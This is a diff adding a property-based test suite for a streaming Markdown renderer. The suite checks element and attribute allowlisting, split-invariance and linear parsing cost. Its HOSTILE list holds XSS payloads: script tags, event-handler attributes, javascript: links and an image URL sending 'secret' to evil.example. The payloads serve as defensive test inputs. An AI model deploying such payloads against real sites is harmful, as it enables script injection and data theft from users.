@@ -1,0 +1,218 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { countWork } from '../support/count-work.ts';
+import { begin, html, htmlOf, render, renderPieces } from '../support/markdown.ts';
+
+const MARKS =
+  '* ** *** _ __ ` `` ``` ~~ ~~~ # ## - + 1. 2) > | |-| [ ] ( ) ! ![ $ \\ \\( \\| --- [x] 0 . , : < = / h http://'
+    .split(' ')
+    .concat(['\n', '\n', '\n\n', '\r\n', ' ', ' ', '    ', '\t', 'é', '字', '😀', '\ud83d', '\u{F0001}']);
+const TAGS = [
+  '<b>',
+  '</b>',
+  '<br>',
+  '<ul>',
+  '<li>',
+  '</li>',
+  '</ul>',
+  '<p>',
+  '</p>',
+  '<a href="https://x.example">',
+];
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<b onclick="x()" style="position:fixed">',
+  '<a href="javascript:alert(1)">',
+  '[x](javascript:alert(1))',
+  '![x](data:text/html,x)',
+  '![x](https://evil.example/?d=secret)',
+  'https://bank.example@evil.example',
+];
+const WORDS = ['w1', 'w2', 'w3', 'a_b', 'https://a.example/b', '[w4](https://a.example)'];
+
+const documents = (pieces: readonly string[]) =>
+  fc.array(fc.constantFrom(...pieces), { maxLength: 40 }).map((all) => all.join(''));
+const anything = documents([...MARKS, ...TAGS, ...HOSTILE, ...WORDS]);
+
+/** A text and the pieces in which it is written. */
+const pieced = fc
+  .tuple(anything, fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 9 }))
+  .map(([text, sizes]) => {
+    const pieces: string[] = [];
+    for (let at = 0; at < text.length; at += pieces.at(-1)?.length ?? 1)
+      pieces.push(text.slice(at, at + (sizes[pieces.length % sizes.length] ?? 1)));
+    return { text, pieces };
+  });
+
+const RUNS = { numRuns: 300 };
+
+/** Allowed elements with attributes, and the attributes of each. */
+const ATTRIBUTES: Record<string, readonly string[]> = {
+  pre: ['tabindex'],
+  a: ['href', 'rel', 'target', 'title'],
+  ol: ['start'],
+  div: ['class', 'tabindex'],
+  img: ['alt', 'decoding', 'loading', 'referrerpolicy', 'src'],
+  button: ['class', 'type'],
+};
+const PLAIN =
+  'b blockquote br code em h3 h4 h5 h6 hr i li p pre s span strong table tbody td th thead tr ul'.split(' ');
+
+/** Elements, attributes and nodes below `root` that are not allowed. */
+function unexpected(root: Element): unknown[] {
+  const all = [...root.querySelectorAll('*')];
+  return [
+    ...all.filter(({ localName }) => !PLAIN.includes(localName) && !ATTRIBUTES[localName]),
+    ...all.flatMap((it) =>
+      it.getAttributeNames().filter((name) => !ATTRIBUTES[it.localName]?.includes(name)),
+    ),
+    ...all.flatMap((it) => [...it.childNodes].filter(({ nodeType }) => nodeType !== 1 && nodeType !== 3)),
+    ...all.filter((it) => /^(?!https?:|mailto:|tel:)/.test(it.getAttribute('href') ?? 'tel:')),
+    ...all.filter(
+      (it) => !(it.getAttribute('src') ?? '').startsWith(it.hasAttribute('src') ? 'https://img.' : ''),
+    ),
+  ];
+}
+
+describe('arbitrary Markdown', () => {
+  it('renders the same elements, however it is split', () => {
+    fc.assert(
+      fc.property(pieced, ({ text, pieces }) => {
+        const root = renderPieces(pieces);
+        root.normalize();
+        expect(htmlOf(root)).toBe(html(text));
+        expect(html(text, 1)).toBe(html(text));
+      }),
+      RUNS,
+    );
+  });
+
+  it('renders only allowed elements and text at every step', () => {
+    fc.assert(
+      fc.property(pieced, ({ pieces }) => {
+        const root = renderPieces(pieces, (half) => expect(unexpected(half)).toEqual([]));
+        expect(unexpected(root)).toEqual([]);
+      }),
+      RUNS,
+    );
+  });
+
+  it('does not change the blocks before the last one', () => {
+    fc.assert(
+      fc.property(pieced, ({ pieces }) => {
+        const seen = new Map<Element, string>();
+        const root = renderPieces(pieces, (half) => {
+          const before = [...half.children].slice(0, -1);
+          for (const it of before) if (!seen.has(it)) seen.set(it, it.outerHTML);
+        });
+        const order = [...root.children];
+        expect([...seen].map(([it, was]) => [order.includes(it), it.outerHTML === was])).toEqual(
+          [...seen].map(() => [true, true]),
+        );
+      }),
+      RUNS,
+    );
+  });
+
+  it('keeps every word, whatever characters surround it', () => {
+    const count = (text: string) => text.match(/w\d/g)?.length ?? 0;
+    // URLs of links and the language after a fence are not shown.
+    const texts = documents([...MARKS.filter((sign) => !/[(h]/.test(sign)), ...TAGS, 'w1', 'w2', 'w3']);
+    fc.assert(
+      fc.property(
+        texts.filter((text) => !/```|~~~/.test(text)),
+        (text) => {
+          expect(count(render(text).textContent)).toBe(count(text));
+        },
+      ),
+      RUNS,
+    );
+  });
+
+  it.each([
+    'Some **bold** words, a [link](https://a.example) and `code`.\n\n',
+    '- one\n- two\n',
+    '| a | b |\n',
+    'words without any end ',
+    '**never closed ',
+  ])('costs the same late in a message as early: %j', (text) => {
+    const { write } = begin();
+    const costs = Array.from({ length: 400 }, () => countWork(() => write(text)));
+    const [early, late] = [costs.slice(50, 200), costs.slice(250)].map((some) => Math.max(...some));
+    expect(late).toBe(early);
+  });
+
+  it('keeps text nodes short', () => {
+    const root = renderPieces(Array.from({ length: 2_000 }, (_, at) => (at ? 'four' : '```\n')));
+    const texts = [...(root.querySelector('code')?.childNodes ?? [])].map((it) => it.textContent ?? '');
+    expect([texts.join(''), texts.every(({ length }) => length < 520)]).toEqual(['four'.repeat(1_999), true]);
+  });
+});
+
+/** Input that could make parsing slow. */
+const FLOODS = '* _ [ ] ` ~ < | > # h a \\ ![]( ]( [a]( ](() <b> </b> *<br> https:// [x](https://a.example)'
+  .split(' ')
+  .concat([
+    '- ',
+    '1. ',
+    '*a ',
+    '_a*b ',
+    '`a ',
+    '<a ',
+    '<a href="',
+    '| a ',
+    'https://a.example/) ',
+    ' ',
+    '\t',
+    '\ud83d',
+  ])
+  .concat(['\n', '**a\n', '|\n', '- - - - - - x\n', '> > > x\n', '```\n', '``` x', '    a\n']);
+const mixed = (seed: number) => fc.sample(fc.constantFrom(...FLOODS), { numRuns: 60, seed }).join('');
+const SEEDS = [1, 2];
+
+const repeated = (piece: string, length: number) =>
+  piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
+
+describe('a long input', () => {
+  /** More than twice the maximum length of pending input. */
+  const LENGTH = 5_000;
+
+  function expectLinear(piece: string): void {
+    const [once, twice] = [1, 2].map((times) => countWork(() => render(repeated(piece, times * LENGTH), 20)));
+    expect({
+      once,
+      twice,
+      isLinear: Number(twice) < Number(once) * 2.2 + 200,
+      isCheap: Number(once) < LENGTH * 60,
+    }).toEqual({ once, twice, isLinear: true, isCheap: true });
+  }
+
+  it.each(FLOODS)('of %j has linear cost', expectLinear);
+
+  it.each(SEEDS)('of mixed pieces (%i) has linear cost', (seed) => {
+    expectLinear(mixed(seed));
+  });
+
+  it.each(['*', '_', '[', '`', '<', '>', '- ', '\n', '![]('])(
+    'of 200,000 characters, all %j, is rendered',
+    (piece) => {
+      expect(unexpected(render(repeated(piece, 200_000), 1_000))).toEqual([]);
+    },
+  );
+
+  it('of 10,000 cells in one row is rendered', () => {
+    const root = render('|'.repeat(10_000), 1_000);
+    expect([unexpected(root), root.querySelectorAll('th').length]).toEqual([[], 9_999]);
+  });
+
+  it.each(SEEDS)(
+    'of 200,000 mixed characters (%i) is rendered',
+    (seed) => {
+      expect(unexpected(render(repeated(mixed(seed), 200_000), 1_000))).toEqual([]);
+    },
+    // The emulated page takes its time, which says nothing about a browser.
+    60_000,
+  );
+});
